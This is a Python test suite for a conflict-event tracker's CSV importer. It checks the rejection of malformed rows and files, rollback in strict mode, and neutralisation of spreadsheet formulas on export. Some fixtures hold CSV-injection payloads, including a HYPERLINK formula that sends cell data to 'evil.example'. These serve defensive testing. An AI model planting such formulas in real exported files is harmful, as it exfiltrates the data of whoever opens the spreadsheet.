"""Bad input: each file of tests/data/bad is refused whole, or has exactly its bad rows
rejected, with the file, line and column named; a refusal or a strict import leaves the
database as it was (compared as a full SQL dump)."""

from __future__ import annotations

import csv
import importlib.util
from pathlib import Path
from types import ModuleType

import pytest
from sqlalchemy import select

from tests.conftest import database_dump
from tracker.domain.events import BattlefieldEvent
from tracker.io.generic_layout import ColumnMapping
from tracker.io.input_errors import InputFileError
from tracker.io.spreadsheet import FORMULA_TRIGGERS
from tracker.services.exports.export import ExportFormat, export_chronology
from tracker.services.imports.import_report import write_report
from tracker.services.imports.importing import ImportFormat, import_events
from tracker.storage.database import Database

DATA = Path(__file__).resolve().parents[2] / "data"
BAD = DATA / "bad"
FILLER = DATA / "acled" / "acled_export_iso.csv"  # twelve events already in the database
FILLER_IDS = 12

# name -> (records, ids imported, [(line, column, part of the reason)])
ROWS = {
    "truncated_in_quote.csv": (3, {"BAD1", "BAD2"}, [(4, "", "ends inside a quoted field")]),
    "truncated_mid_row.csv": (4, {"BAD1", "BAD2", "BAD3"}, [(5, "", "cut off")]),
    "bad_dates.csv": (8, {"BAD1", "BAD8"}, [
        (3, "event_date", "'2023-02-30'"), (4, "event_date", "'31/04/2022'"),
        (5, "event_date", "'yesterday'"), (6, "event_date", "empty"),
        (7, "event_date", "year 2021"), (8, "event_date", "'2022-02-29'")]),
    "month_13.csv": (2, {"BAD1"}, [(3, "event_date", "12/13/2022")]),
    "bad_fatalities.csv": (6, {"BAD1", "BAD5", "BAD6"}, [
        (3, "fatalities", "'many' is not a whole number"), (4, "fatalities", "negative"),
        (5, "fatalities", "'2.5' is not a whole number")]),
    "nul_bytes.csv": (3, {"BAD1", "BAD3"}, [(3, "notes", "NUL")]),
}
# name -> (line, column, part of the reason) of a file refused whole
REFUSED = {
    "utf16.csv": (1, None, "UTF-16"),
    "utf16_no_bom.csv": (1, None, "UTF-16"),
    "mixed_encoding.csv": (4, None, "line 2 is UTF-8 but this line has byte 0x92"),
    "missing_columns.csv": (1, None, "no 'event_date' or 'event_type' columns"),
    "duplicate_header.csv": (1, "Fatalities", "columns 4 and 6"),
    "empty.csv": (None, None, "empty"),
}


def _corpus_module() -> ModuleType:
    spec = importlib.util.spec_from_file_location("make_corpus", BAD / "make_corpus.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


CORPUS = _corpus_module()


def stored_ids(db: Database) -> set[str]:
    with db.reading() as session:
        return set(session.scalars(select(BattlefieldEvent.external_id)))


@pytest.fixture
def filled(db: Database, tmp_path: Path) -> Path:
    """The database (its file, on SQLite), already holding the twelve ACLED fixture
    events; compare ``database_dump(db)`` to see nothing changed."""
    import_events(db, FILLER, ImportFormat.ACLED)
    return tmp_path / "tracker.db"


@pytest.fixture
def huge_field(tmp_path: Path) -> Path:
    """Line 3's notes are 10 MiB long (never committed: written for each test)."""
    path = tmp_path / "huge_field.csv"
    big = CORPUS.row(2, notes="x" * (10 * 1024 * 1024))
    path.write_text(CORPUS.lines(CORPUS.row(1), big, CORPUS.row(3)), encoding="utf-8")
    return path


def test_the_committed_corpus_is_what_the_generator_writes() -> None:
    expected: dict[str, bytes] = CORPUS.corpus()
    assert sorted(path.name for path in BAD.glob("*.csv")) == sorted(expected)
    for name, content in expected.items():
        assert (BAD / name).read_bytes() == content, name


@pytest.mark.parametrize("name", sorted(ROWS))
def test_bad_rows_are_rejected_and_the_good_ones_imported(db: Database, name: str) -> None:
    records, good, rejected = ROWS[name]

    report = import_events(db, BAD / name, ImportFormat.ACLED)

    assert [(r.line, r.column) for r in report.rejections] == [(n, c) for n, c, _ in rejected]
    for rejection, (_, _, reason) in zip(report.rejections, rejected, strict=True):
        assert reason in rejection.reason
    assert (report.file.name, report.records, report.added) == (name, records, len(good))
    assert report.added + report.updated + report.unchanged + report.rejected == records
    assert stored_ids(db) == good


@pytest.mark.parametrize("name", sorted(ROWS))
def test_strict_stops_at_the_first_bad_row_and_writes_nothing(db: Database, filled: Path,
                                                              name: str) -> None:
    line, column, _ = ROWS[name][2][0]
    before = database_dump(db)

    with pytest.raises(InputFileError) as refused:
        import_events(db, BAD / name, ImportFormat.ACLED, strict=True)

    assert (refused.value.line, refused.value.column) == (line, column or None)
    assert str(refused.value).startswith(f"{name}, line {line}")
    assert database_dump(db) == before


@pytest.mark.parametrize("strict", [False, True], ids=["default", "strict"])
@pytest.mark.parametrize("name", sorted(REFUSED))
def test_a_refused_file_names_itself_and_writes_nothing(db: Database, filled: Path,
                                                        name: str, strict: bool) -> None:
    line, column, reason = REFUSED[name]
    before = database_dump(db)

    with pytest.raises(InputFileError) as refused:
        import_events(db, BAD / name, ImportFormat.ACLED, strict=strict)

    error = refused.value
    assert (error.path.name, error.line, error.column) == (name, line, column)
    assert reason in error.reason
    where = name if line is None else f"{name}, line {line}"
    assert str(error).startswith(where + (f", column {column!r}" if column else "") + ": ")
    assert database_dump(db) == before


def test_strict_rolls_back_batches_already_written(db: Database, filled: Path,
                                                   tmp_path: Path) -> None:
    """The bad row comes after 12,000 good ones: several batches, and the bulk mode that
    drops the indexes, are all undone."""
    rows = [CORPUS.row(n, date="2022-03-01") for n in range(1, 12_001)]
    path = tmp_path / "late_bad_row.csv"
    bad = CORPUS.row(12_001, date="2022-03-01", fatalities="-1")
    path.write_text(CORPUS.lines(*rows, bad), encoding="utf-8")
    before = database_dump(db)

    with pytest.raises(InputFileError) as refused:
        import_events(db, path, ImportFormat.ACLED, strict=True)

    assert (refused.value.line, refused.value.column) == (12_002, "fatalities")
    assert database_dump(db) == before
    report = import_events(db, path, ImportFormat.ACLED)  # and the default mode still works
    assert (report.added, report.rejected) == (12_000, 1)


def test_utf8_with_bom_imports_and_says_so(db: Database) -> None:
    report = import_events(db, BAD / "utf8_bom.csv", ImportFormat.ACLED)
    assert (report.encoding, report.records, report.added, report.rejected) == (
        "UTF-8 with BOM", 3, 3, 0)
    with db.reading() as session:
        rows = session.execute(select(BattlefieldEvent.external_id, BattlefieldEvent.location))
        places = {key: place for key, place in rows}
    assert places == {"BAD1": "Kharkiv", "BAD2": "Харків", "BAD3": "Kharkiv"}


def test_a_header_without_rows_imports_nothing(db: Database, filled: Path) -> None:
    report = import_events(db, BAD / "header_only.csv", ImportFormat.ACLED)
    assert (report.records, report.added, report.updated, report.rejected) == (0, 0, 0, 0)
    assert len(stored_ids(db)) == FILLER_IDS


@pytest.mark.parametrize("strict", [False, True], ids=["default", "strict"])
def test_a_10_mb_field_is_rejected_by_name(db: Database, filled: Path, huge_field: Path,
                                           strict: bool) -> None:
    if strict:
        before = database_dump(db)
        with pytest.raises(InputFileError) as refused:
            import_events(db, huge_field, ImportFormat.ACLED, strict=True)
        assert (refused.value.line, refused.value.column) == (3, "notes")
        assert "huge_field.csv, line 3, column 'notes'" in str(refused.value)
        assert database_dump(db) == before
        return
    report = import_events(db, huge_field, ImportFormat.ACLED)
    assert [(r.line, r.column) for r in report.rejections] == [(3, "notes")]
    assert "10,485,760 characters" in report.rejections[0].reason
    assert (report.records, report.added) == (3, 2)


def test_formula_cells_import_as_plain_text(db: Database) -> None:
    report = import_events(db, BAD / "formulas.csv", ImportFormat.ACLED)
    assert (report.added, report.rejected) == (3, 0)
    with db.reading() as session:
        rows = session.execute(select(BattlefieldEvent.external_id, BattlefieldEvent.event_type,
                                      BattlefieldEvent.location, BattlefieldEvent.summary))
        stored = {row[0]: tuple(row[1:]) for row in rows}
    assert stored["BAD1"] == ("@SUM(1+1)", "+1",
                              '=HYPERLINK("http://evil.example/?leak="&A1,"Click")')
    assert stored["BAD2"][1:] == ("-2+3", "+1")
    assert stored["BAD3"][2] == "@SUM(A1:A9)"


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_formula_cells_are_neutralised_in_the_chronology_export(db: Database,
                                                                tmp_path: Path) -> None:
    import_events(db, BAD / "formulas.csv", ImportFormat.ACLED)
    out = tmp_path / "chronology.csv"
    with db.reading() as session:
        assert export_chronology(session, out, ExportFormat.CSV) == 3
    cells = [cell for row in _cells(out) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    # The rules suggest "military" for an armed clash (resources/target_rules.toml).
    assert "'@SUM(1+1) / Armed clash [military]" in cells
    assert "'+1" in cells and "'-2+3" in cells
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)


def test_formula_headers_are_neutralised_in_the_report(db: Database, tmp_path: Path) -> None:
    mapping = ColumnMapping({"event_date": "date", "fatalities": "@SUM(A1:A2)",
                             "summary": '=HYPERLINK("http://evil.example")'}, dataset="+evil")
    report = import_events(db, BAD / "formulas_mapped.csv", ImportFormat.CSV, mapping=mapping)
    assert [(r.line, r.column) for r in report.rejections] == [(3, "@SUM(A1:A2)"),
                                                               (4, "@SUM(A1:A2)")]
    with db.reading() as session:
        assert list(session.scalars(select(BattlefieldEvent.summary))) == ["=1+2"]
    out = tmp_path / "report.csv"

    write_report(report, out)

    rows = _cells(out)
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_TRIGGERS)]
    assert rows[1][2] == "'+evil"
    assert ["3", "'@SUM(A1:A2)", "'lots' is not a whole number"] in rows
    assert ["4", "'@SUM(A1:A2)", "'-3 is negative"] in rows
